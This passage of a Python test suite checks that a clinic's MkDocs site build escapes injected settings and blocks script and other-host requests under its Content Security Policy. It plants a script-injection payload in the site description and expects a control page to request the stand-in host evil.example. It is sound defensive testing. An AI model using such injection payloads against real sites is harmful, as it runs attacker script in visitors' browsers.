                    if "redirect template" in name)


def _paths(site: Path) -> list[str]:
    paths = []
    for _name, (path, _text, _kind) in CASES.items():
        built = built_path(path)
        if (site / built).exists():
            paths.append(built.removesuffix("index.html"))
    return paths


def test_no_dialog_opens_under_the_policy(browser, unguarded):
    rules = parse_headers_file((unguarded / "_headers").read_text(encoding="utf-8"))
    opened, moved = _dialogs(browser, unguarded, rules, _paths(unguarded))
    # The CSP's promise is that no script runs; what a page loads from or sends to another host is
    # the guard's (a refresh, an SVG <use>: test_without_headers_… shows none is let through).
    ran = {path: [item for item in items if not item.startswith(("navigation to ", "request to "))]
           for path, items in opened.items()}
    assert {path: items for path, items in ran.items() if items} == {}, f"script ran under the site's CSP on: {ran}"
    assert _only_expected_moves(moved, opened), moved


# Refused cases that the harness must see run or reach another host when served unguarded without
# headers: if they did not, a let-through case passing would prove nothing.
# Cases the unguarded build must be seen to run or load (the harness sees it): titles are escaped once
# everywhere now (engines/mkdocs/escaping.py), so copied pages stand in for script.
CONTROLS = ("copied docs/attack/raw.html", REMOTE_PICTURE, "copied docs/attack/upper.HTML")


def test_without_headers_a_dialog_opens_only_on_refused_cases(browser, refused, unguarded):
    """Served as GitHub Pages serves it (no headers), the unguarded build runs no script and
    reaches no other host on any page of a case the guarded build lets through. (Refused cases do
    not need opening: the build publishes nothing of them; the controls show the harness sees it.)"""
    by_path = {built_path(path).removesuffix("index.html"): name for name, (path, _text, _kind) in CASES.items()}
    paths = [path for path in _paths(unguarded) if not is_refused(refused, by_path[path]) or by_path[path] in CONTROLS]
    opened, moved = _dialogs(browser, unguarded, [], paths)
    assert _only_expected_moves(moved, opened), moved
    for control in CONTROLS:
        assert built_path(CASES[control][0]).removesuffix("index.html") in opened, control
    assert any(message.startswith(("request to https://evil.example/", "request to http://evil.example/"))
               for message in
               opened[built_path(CASES[REMOTE_PICTURE][0]).removesuffix("index.html")]), opened
    let_through = [by_path[path] for path in opened if not is_refused(refused, by_path[path])]
    assert let_through == [], f"script runs or another host is reached on GitHub Pages for cases the build lets " \
                              f"through: {let_through}"


# ---- Settings shown on pages: mkdocs.yml and clinic.yml are channels too. Their cases are batched
# into the corpus project (they change every page, the corpus cases' own pages included, and add no
# problem of their own: test_the_batch_names_only_problems_of_its_cases).
CLINIC_NAME = 'Riverbend "Medical" Massage <and> Therapy'
INJECTED_DESCRIPTION = 'Clinic pages"><script>alert(7)</script>'


def write_settings_cases(project: Path) -> None:
    """A site_description (shown by pages without a description of their own) written to break out
    of its meta tag, and a clinic name (the site's name) with quotes and angle brackets."""
    config, clinic_file = project / "mkdocs.yml", project / "clinic.yml"
    clinic_text = clinic_file.read_text(encoding="utf-8")
    name = next(line for line in clinic_text.splitlines() if line.startswith("name:"))
    # The clinic's own therapists' listings (at_clinic: true) take the new name from clinic.yml.
    clinic_file.write_text(clinic_text.replace(name, f"name: '{CLINIC_NAME}'", 1), "utf-8")
    text = config.read_text(encoding="utf-8")
    assert "site_description: >-\n" in text, "mkdocs.yml's site_description changed; update this test"
    text = text.replace("site_description: >-\n", f"site_description: >-\n  {INJECTED_DESCRIPTION}\n", 1)
    config.write_text(text, encoding="utf-8")


def case_files() -> set[str]:
    """The files the corpus cases write (and .authors.yml, which the author cases edit)."""
    return {path for path, _text, _kind in CASES.values()} | {"docs/blog/.authors.yml"}


def problem_files(output: str) -> set[str]:
    """The files the error lines of a build's or check's `output` name."""
    return {line.split(", line ", 1)[0] for line in output.splitlines() if PROBLEM.match(line)}


def test_the_batch_names_only_problems_of_its_cases(refused):
    """The settings cases, which the guarded build and the check accept on their own, add no
    problem to the batch: every error either names is on a file of a corpus case, so the batch
    names exactly the union of its cases' problems (and the cases' lines are the check's and the
    build's alike: test_each_case_…)."""
    for output in ("build", "check"):
        assert problem_files(refused[output]), f"the {output} refused nothing"
        assert problem_files(refused[output]) <= case_files(), \
            f"the {output} names files of no case: {sorted(problem_files(refused[output]) - case_files())}"


def test_a_setting_shown_on_pages_is_text_wherever_it_is_shown(refused, unguarded):
    """mkdocs.yml and clinic.yml are channels too: a site_description written to break out of its
    meta tag, and a clinic name with quotes and angle brackets (write_settings_cases), reach every
    page escaped once (engines/mkdocs/escaping.py): shown as the characters written, in every place,
    and nothing runs. Read in the unguarded build of the corpus (the guard refuses nothing there,
    so a setting that broke out would be in its pages); the guarded build and the check name no
    problem of the settings (test_the_batch_names_only_problems_of_its_cases) and no page of the site's
    own."""
    descriptions, titles, labels, ran = [], [], [], []
    copied = {built_path(path) for path in COPIED}   # published as written: no template shows a setting there
    for page in unguarded.rglob("*.html"):
        if page.relative_to(unguarded).as_posix() in copied:
            continue
        # Read as a browser parses HTML (lexbor follows the HTML standard), some 40 times faster
        # than BeautifulSoup's html.parser on the corpus's ~200 pages.
        tree = LexborHTMLParser(page.read_text(encoding="utf-8"))
        for script in tree.css("script"):
            if script.attributes.get("type") == "application/ld+json":   # data: the text comes back as written
                data = json.loads(script.text())
                for item in data if isinstance(data, list) else [data]:
                    assert "alert(7)" not in str(item.get("description", "")) or \
                        str(item["description"]).startswith(INJECTED_DESCRIPTION), item
            elif "alert(7)" in script.text():
                ran.append(page)
        assert tree.css_first("and") is None, page
        meta = tree.css_first('meta[name="description"]')
        content = (meta.attributes.get("content") or "") if meta else ""
        descriptions += [content] if INJECTED_DESCRIPTION in content else []
        titles += [page] if CLINIC_NAME in tree.root.text() else []
        labels += [page for tag in tree.css("*") if CLINIC_NAME in tag.attributes.values()]
    assert ran == []
    assert descriptions and all(content.startswith(INJECTED_DESCRIPTION) for content in descriptions)
    assert titles and labels, "no page shows the clinic's name as written, in its text and its labels"
    for output in ("build", "check"):
        assert problem_files(refused[output]) <= case_files(), refused[output]
